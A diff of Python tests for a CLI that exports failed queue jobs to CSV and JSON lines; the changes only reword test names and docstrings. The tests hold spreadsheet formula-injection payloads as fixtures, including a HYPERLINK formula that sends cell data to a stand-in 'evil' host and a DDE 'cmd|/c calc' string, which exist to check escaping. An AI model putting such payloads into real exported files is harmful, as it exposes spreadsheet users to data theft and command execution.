@@ -27,7 +27,7 @@ def rows(text: str) -> list[dict[str, str]]:
 
 
 def test_a_csv_has_a_row_for_each_failed_job(run, jobs):
-    """The latest first, with what a person looks for; jobs that did not fail are not in it."""
+    """The failed jobs are listed, the latest first. Other jobs are not included."""
     first = jobs.failed(metadata="order 1001, paid", idempotency_key="k-1")
     second = jobs.failed("190", message='say "no"', page_id=OTHER_PAGE)
     jobs.sent()
@@ -55,8 +55,8 @@ def test_a_csv_has_a_row_for_each_failed_job(run, jobs):
     assert (later["job_id"], later["error_message"], later["metadata"]) == (second, 'say "no"', "")
 
 
-def test_json_lines_are_what_show_prints(run, jobs):
-    """One whole record a line."""
+def test_json_lines_have_the_format_of_show(run, jobs):
+    """Each line is one complete record."""
     ids = [jobs.failed(), jobs.failed()]
     result = run("export", "--format", "jsonl")
     lines = [json.loads(line) for line in result.stdout.splitlines()]
@@ -64,7 +64,7 @@ def test_json_lines_are_what_show_prints(run, jobs):
 
 
 def test_the_filters_are_those_of_replay(run, jobs):
-    """By error code, page and time, alone and together."""
+    """Filters by error code, page and time work alone and together."""
     window = jobs.failed()
     token = jobs.failed("190", page_id=OTHER_PAGE)
 
@@ -80,8 +80,8 @@ def test_the_filters_are_those_of_replay(run, jobs):
 
 
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "＝"])
-def test_no_cell_is_a_formula_to_a_spreadsheet(run, jobs, begin):
-    """What a customer put into metadata must not run on an accountant's machine."""
+def test_a_spreadsheet_reads_no_cell_as_a_formula(run, jobs, begin):
+    """A formula in metadata must not run in a spreadsheet."""
     formula = f'{begin}HYPERLINK("http://evil/?"&A1)'
     jobs.failed(message=formula, metadata=formula)
     (row,) = rows(run("export").stdout)
@@ -92,21 +92,21 @@ def test_no_cell_is_a_formula_to_a_spreadsheet(run, jobs, begin):
 @pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n"])
 @pytest.mark.parametrize("quote", ["", '"', ' "', "\t"])
 @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝"])
-def test_no_cell_is_a_formula_where_another_separator_is_expected(separator, quote, begin):
-    """Excel in half of Europe, and in Vietnam, splits at semicolons, and takes quotes literally."""
+def test_no_cell_is_a_formula_with_another_separator(separator, quote, begin):
+    """In some locales, Excel splits at semicolons and reads quotes literally."""
     text = csv_text([["x", f'a{separator}{quote}{begin}cmd|"/c calc"!A1{separator}b', "y"]])
     for delimiter in (",", ";", "\t"):
         for cells in csv.reader(io.StringIO(text), delimiter=delimiter):
             assert not any(cell.strip(' "\t\r\n').startswith(begin) for cell in cells)
 
 
-#: Texts of what a spreadsheet changes, and of what the protection itself consists of.
+#: Texts of characters that a spreadsheet changes, or that the protection uses.
 telling = st.text("=+-@'\";,\t\r\n |x0159./:eE＝", max_size=12) | st.text(max_size=12)
 
 
 @given(telling)
 def test_a_protected_cell_is_read_back_as_it_was(cell):
-    """Whatever is in it, also apostrophes of its own; what was never protected stays."""
+    """Any text is read back unchanged, also with its own apostrophes or without protection."""
     assert unescape_cell(escape_cell(cell)) == cell
     if escape_cell(cell) == cell:
         assert unescape_cell(cell) == cell
@@ -132,13 +132,13 @@ def test_a_protected_cell_is_read_back_as_it_was(cell):
         ("Ngoài khung giờ", False),
     ],
 )
-def test_what_a_spreadsheet_would_change_is_protected(cell, is_protected):
-    """Long ids lose digits there, and codes become dates; a text that it keeps stays as it is."""
+def test_values_that_a_spreadsheet_would_change_are_protected(cell, is_protected):
+    """Long IDs would lose digits, and codes would become dates. Other texts are unchanged."""
     assert escape_cell(cell) == ("'" + cell if is_protected else cell)
 
 
 def test_an_exported_file_can_be_enqueued_again(run, jobs, tmp_path):
-    """Each failed job becomes one new job, though its own key is taken, and however often."""
+    """Each failed job becomes one new job, even if the file is enqueued several times."""
     # given failed jobs, with hostile and long texts
     keyed = jobs.failed(idempotency_key="order-1001", metadata="x;=cmd()", delivery="at_most_once")
     other = jobs.failed(page_id=OTHER_PAGE, metadata="'=1")
@@ -149,13 +149,13 @@ def test_an_exported_file_can_be_enqueued_again(run, jobs, tmp_path):
     # when the file is enqueued as it is
     result = run("enqueue", file)
 
-    # then it says what it does, and there is a new job for each
+    # then a notice explains it, and there is a new job for each
     assert (result.exit_code, result.stdout) == (
         0,
         "2 new, 0 already there, 0 rejected\n",
     )
     assert "the columns failed_at, error_code, error_message, meaning, what_to_do" in result.stderr
-    assert "The failed job itself stays failed" in result.stderr
+    assert "The failed job stays failed" in result.stderr
     new = {job.page_id: job for job in jobs.producer.find_jobs(state="queued")}
     assert new[PAGE].job == jobs.producer.get_job(keyed).job
     assert new[PAGE].delivery.value == "at_most_once"
@@ -172,7 +172,7 @@ def test_an_exported_file_can_be_enqueued_again(run, jobs, tmp_path):
 
 @pytest.mark.parametrize("name", ["failed.csv", "failed.jsonl"])
 def test_an_exported_job_stays_in_its_campaign(run, jobs, tmp_path, name):
-    """Unless it is enqueued as another one."""
+    """--campaign overrides the exported campaign."""
     jobs.failed(campaign="sale")
     file = tmp_path / name
     assert run("export", "-o", file).exit_code == 0
@@ -189,7 +189,7 @@ def test_an_exported_job_stays_in_its_campaign(run, jobs, tmp_path, name):
 
 
 def test_exported_json_lines_can_be_enqueued_again(run, jobs, tmp_path):
-    """As CSV can: each failed job becomes one new job, however often."""
+    """Like CSV: each failed job becomes one new job, even if enqueued several times."""
     keyed = jobs.failed(idempotency_key="order-1001", metadata="m", delivery="at_most_once")
     file = tmp_path / "failed.jsonl"
     assert run("export", "-o", file).exit_code == 0
@@ -201,8 +201,8 @@ def test_exported_json_lines_can_be_enqueued_again(run, jobs, tmp_path):
     assert jobs.state(keyed) is State.FAILED
 
 
-def test_a_file_gets_its_name_once_it_is_whole(run, jobs, tmp_path, monkeypatch):
-    """Its kind follows from the name; only its owner may read it; a broken one does not stay."""
+def test_a_file_gets_its_name_when_it_is_complete(run, jobs, tmp_path, monkeypatch):
+    """The extension sets the format, only the owner can read it, and a partial file is deleted."""
     job_id = jobs.failed()
     file = tmp_path / "failed.jsonl"
     result = run("export", "-o", file)
@@ -210,7 +210,7 @@ def test_a_file_gets_its_name_once_it_is_whole(run, jobs, tmp_path, monkeypatch)
     assert json.loads(file.read_text())["job_id"] == job_id
     assert stat.S_IMODE(file.stat().st_mode) == 0o600
 
-    # when Redis goes away in the middle of the next one
+    # when Redis fails during the next export
     def break_off(records):
         raise QueueUnavailable("Redis did not answer")
 
@@ -222,8 +222,8 @@ def test_a_file_gets_its_name_once_it_is_whole(run, jobs, tmp_path, monkeypatch)
     assert [path.name for path in tmp_path.iterdir()] == ["failed.jsonl"]
 
 
-def test_it_goes_into_a_pipe_that_has_a_name(run, jobs, tmp_path):
-    """Such as `-o /dev/stderr`, or a fifo."""
+def test_the_output_can_be_a_named_pipe(run, jobs, tmp_path):
+    """The output can be `/dev/stderr` or a named pipe."""
     jobs.failed()
     fifo = tmp_path / "fifo"
     os.mkfifo(fifo)
@@ -233,16 +233,16 @@ def test_it_goes_into_a_pipe_that_has_a_name(run, jobs, tmp_path):
     assert fifo.is_fifo()
 
 
-def test_a_folder_that_is_not_there_is_said(run, tmp_path):
-    """One line, and no traceback."""
+def test_a_missing_folder_is_an_error(run, tmp_path):
+    """The error is one line, without a traceback."""
     result = run("export", "-o", tmp_path / "nowhere" / "a.csv")
     file = tmp_path / "nowhere" / "a.csv"
     assert result.exit_code == 2
     assert f"cannot write {file}: No such file or directory\n" in result.stderr
 
 
-def test_thousands_are_written_as_they_are_read(run, jobs):
-    """None twice, none left out, over several pages of the listing."""
+def test_thousands_of_jobs_are_exported_exactly_once(run, jobs):
+    """Over several pages of results, every job is exported exactly once."""
     body = {"recipient": {"id": RECIPIENT}, "message": {"payload_id": "p"}}
     report = jobs.producer.enqueue_many({**body, "page_id": str(i % 7 + 1)} for i in range(1200))
     jobs.end(State.FAILED, "190")
